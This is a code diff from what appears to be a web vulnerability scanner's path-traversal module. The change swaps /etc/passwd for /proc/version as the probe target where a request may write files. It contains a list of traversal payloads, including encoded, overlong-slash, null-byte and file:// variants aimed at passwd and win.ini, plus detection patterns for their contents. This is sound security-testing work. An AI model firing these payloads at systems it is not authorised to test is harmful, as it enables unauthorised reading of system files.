@@ -1,7 +1,7 @@
 import { cweReference, scored } from '../../core/definition.ts';
 import { ownFiles, showsFile } from '../attack/own-files.ts';
 import { depthWhereStored } from '../attack/storing.ts';
-import { type Answer, control, mayNameWrittenFile, proof, repeat, Trial } from '../attack/trial.ts';
+import { type Answer, control, mayNameWrittenFile, mayWiden, proof, repeat, Trial } from '../attack/trial.ts';
 import type { PointCheck, SendOptions, WebDefinition, WebSighting } from '../check.ts';
 import type { InjectionPoint } from '../crawl/point.ts';
 import { isProgram } from '../crawl/template.ts';
@@ -38,6 +38,14 @@ export const PASSWD = {
   shape:
     /\broot:[^:\s]{0,80}:0:0:[^:\n]{0,80}:[^:\n]{1,80}:|\bcm9vdDp4OjA6MD[A-Za-z0-9+/]{16}|\b726f6f743a783a303a303a[0-9a-f]{16}/i,
 } as const satisfies KnownFile;
+/**
+ * Of a file system that nobody can write: where the request may write, a value must name no file that it could replace.
+ */
+const VERSION: KnownFile = {
+  name: 'proc/version',
+  shape:
+    /\bLinux version \d{1,2}\.\d{1,3}[\w.+-]{0,60} \(|\bTGludXggdmVyc2lvbi[A-Za-z0-9+/]{16}|\b4c696e75782076657273696f6e20[0-9a-f]{16}/i,
+};
 const WIN_INI: KnownFile = {
   name: 'windows/win.ini',
   shape: /; for 16-bit app support|\[(?:fonts|extensions|mci extensions)\]\s{0,4}\r?\n\[?/i,
@@ -47,7 +55,7 @@ const WEB_XML: KnownFile = {
   shape: /<(?:web-app|display-name|servlet-name|welcome-file-list)\b|&lt;web-app\b/i,
 };
 /** A usual value that names one of these files: its answer shows the file as well. */
-const NAMES_KNOWN_FILE = /\betc[\\/]passwd|windows[\\/]win\.ini|WEB-INF[\\/]web\.xml/i;
+const NAMES_KNOWN_FILE = /\betc[\\/]passwd|proc[\\/]version|windows[\\/]win\.ini|WEB-INF[\\/]web\.xml/i;
 /** A folder whose names every Linux system has. */
 const ETC: KnownFile = {
   name: 'etc',
@@ -100,6 +108,8 @@ const RUNS_OTHER = /\.(?:php\d?|phtml|aspx?|cfm|py|rb|pl)$/i;
 function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: boolean): readonly Payload[] {
   const { value } = point;
   const path = pathOf(point);
+  const isRead = mayWiden(point);
+  const system = isRead ? PASSWD : VERSION;
   const payload = (how: Evidence, file: KnownFile, spell: (name: string) => string, raw = false): Payload => {
     const missing = file.name.replace(/[^/]+$/, missingName);
     return {
@@ -129,7 +139,7 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
       (name) => `../../${name}`,
     ),
   ];
-  const neighbour = neighbourOf(point);
+  const neighbour = isRead ? neighbourOf(point) : null;
   const source = (before: string): Payload => ({
     how: { it: 'il sorgente di un programma', en: 'the source of a program' },
     value: `${before}${neighbour}`,
@@ -137,24 +147,24 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
     missing: `${before}${missingName}${neighbour}`,
   });
   const list = [
-    payload({ it: 'passi verso l’alto', en: 'steps up' }, PASSWD, (name) => up('../') + name),
+    payload({ it: 'passi verso l’alto', en: 'steps up' }, system, (name) => up('../') + name),
     // Absolute as well, where nothing stands before it.
     payload(
       { it: 'passi verso l’alto dopo una barra', en: 'steps up behind a slash' },
-      PASSWD,
+      system,
       (name) => `/${up('../')}${name}`,
     ),
-    payload({ it: 'un indirizzo file:', en: 'a file address' }, PASSWD, (name) => `file:///${name}`),
-    payload({ it: 'un percorso assoluto', en: 'an absolute path' }, PASSWD, (name) => `/${name}`),
-    payload({ it: 'passi raddoppiati', en: 'doubled steps' }, PASSWD, (name) => up('....//') + name),
+    payload({ it: 'un indirizzo file:', en: 'a file address' }, system, (name) => `file:///${name}`),
+    payload({ it: 'un percorso assoluto', en: 'an absolute path' }, system, (name) => `/${name}`),
+    payload({ it: 'passi raddoppiati', en: 'doubled steps' }, system, (name) => up('....//') + name),
     payload(
       { it: 'passi verso l’alto e un byte nullo', en: 'steps up and a null byte' },
-      PASSWD,
+      system,
       (name) => `${up('../')}${name}\0${ending}`,
     ),
     payload(
       { it: 'passi codificati due volte', en: 'steps encoded twice' },
-      PASSWD,
+      system,
       (name) => up('%252e%252e%252f') + name.replaceAll('/', '%252f'),
       true,
     ),
@@ -162,14 +172,14 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
     // What is decoded, looked at and decoded once more.
     payload(
       { it: 'passi codificati tre volte', en: 'steps encoded three times' },
-      PASSWD,
+      system,
       (name) => up('%25252e%25252e%25252f') + name.replaceAll('/', '%25252f'),
       true,
     ),
     // Lists of forbidden names do not know it.
     payload(
       { it: 'passi verso un nome scritto in altro modo', en: 'steps up to a name in another spelling' },
-      PASSWD,
+      system,
       (name) => up('..././') + name.replace('/', '/./'),
     ),
     payload(
@@ -181,13 +191,13 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
     payload({ it: 'un percorso assoluto, Windows', en: 'an absolute path, Windows' }, WIN_INI, (name) => `C:/${name}`),
     payload(
       { it: 'passi interamente codificati', en: 'steps with everything encoded' },
-      PASSWD,
+      system,
       (name) => up('%2e%2e%2f') + hex(name),
       true,
     ),
     payload(
       { it: 'barre in codifica lunga', en: 'overlong slashes' },
-      PASSWD,
+      system,
       (name) => up('..%c0%af') + name.replaceAll('/', '%c0%af'),
       true,
     ),
@@ -198,33 +208,33 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
     ),
     payload(
       { it: 'passi chiusi da un punto interrogativo', en: 'steps up cut by a question mark' },
-      PASSWD,
+      system,
       (name) => `file:///${name}?`,
     ),
     payload(
       { it: 'un indirizzo file: chiuso da un cancelletto', en: 'a file address cut by a hash' },
-      PASSWD,
+      system,
       (name) => `file:///${name}#`,
     ),
     payload(
       { it: 'passi con entrambe le barre', en: 'steps in both directions' },
-      PASSWD,
+      system,
       (name) => up('..\\/') + name,
     ),
     payload(
       { it: 'passi tra punti e virgola', en: 'steps between semicolons' },
-      PASSWD,
+      system,
       (name) => up('..;/') + name,
       true,
     ),
     payload(
       { it: 'un percorso lungo', en: 'a long path' },
-      PASSWD,
+      system,
       (name) => `${up('../')}${name}${'/.'.repeat(2_048)}`,
     ),
     payload(
       { it: 'un byte nullo dopo un percorso assoluto', en: 'a null byte behind an absolute path' },
-      PASSWD,
+      system,
       (name) => `/${name}\0${ending}`,
     ),
   ];
@@ -239,7 +249,7 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
     extra.push(
       payload(
         { it: 'passi verso l’alto dopo la cartella', en: 'steps up behind the folder' },
-        PASSWD,
+        system,
         (name) => folder + up('../') + name,
       ),
     );
@@ -248,13 +258,14 @@ function payloadsFor(point: InjectionPoint, missingName: string, mayBeFolder: bo
     extra.push(
       payload(
         { it: 'passi verso l’alto dopo un nome simile', en: 'steps up behind a name like it' },
-        PASSWD,
+        system,
         (name) => `${value}q/${up('../')}${name}`,
       ),
     );
   }
   if (RUNS_JAVA.test(path)) extra.push(...ofApplication.slice(1));
-  return [...(mayBeFolder ? folders : []), ...list.slice(0, 4), ...extra, ...list.slice(4)];
+  const all = [...(mayBeFolder ? folders : []), ...list.slice(0, 4), ...extra, ...list.slice(4)];
+  return isRead ? all : all.filter(({ shape }) => shape !== WIN_INI.shape && shape !== WEB_XML.shape);
 }
 
 const namesFolder = ({ name, value }: InjectionPoint) =>
@@ -308,13 +319,14 @@ async function isReadAsPath(trial: Trial): Promise<boolean> {
 }
 
 /** Behind what a server cuts off from the end of a value. */
-function dummyEndings({ value }: InjectionPoint, missingName: string): readonly Payload[] {
-  const own = endingOf(value);
+function dummyEndings(point: InjectionPoint, missingName: string): readonly Payload[] {
+  const own = endingOf(point.value);
+  const { name, shape } = mayWiden(point) ? PASSWD : VERSION;
   return (own === undefined ? ['.php', '.html'] : [own]).map((ending) => ({
     how: { it: 'passi verso l’alto e una finta estensione', en: 'steps up and a dummy ending' },
-    value: `${'../'.repeat(UP)}${PASSWD.name}${ending}`,
-    shape: PASSWD.shape,
-    missing: `${'../'.repeat(UP)}etc/${missingName}${ending}`,
+    value: `${'../'.repeat(UP)}${name}${ending}`,
+    shape,
+    missing: `${'../'.repeat(UP)}${name.replace(/[^/]+$/, missingName)}${ending}`,
   }));
 }
 
@@ -329,6 +341,7 @@ const STEPS = ['../', '../../', '....//'];
  * that is nowhere.
  */
 async function byOwnFile(trial: Trial): Promise<WebSighting | null> {
+  if (!mayWiden(trial.point)) return null;
   const { value } = trial.point;
   const folder = value.slice(0, value.lastIndexOf('/') + 1);
   const ending = endingOf(value);
@@ -435,6 +448,7 @@ const ENDING_BEHIND = /^[\w.-]{0,20}(?=['")])/;
  */
 async function byOwnProgram(trial: Trial): Promise<WebSighting | null> {
   const { other, tools, point } = trial;
+  if (!mayWiden(point)) return null;
   if (pathNamed(other, other.value) !== other.value) return null;
   const ending = ENDING_BEHIND.exec(other.text.slice(other.text.indexOf(other.value) + other.value.length))?.[0] ?? '';
   const own = pathOf(point).replace(/^.*\//, '');
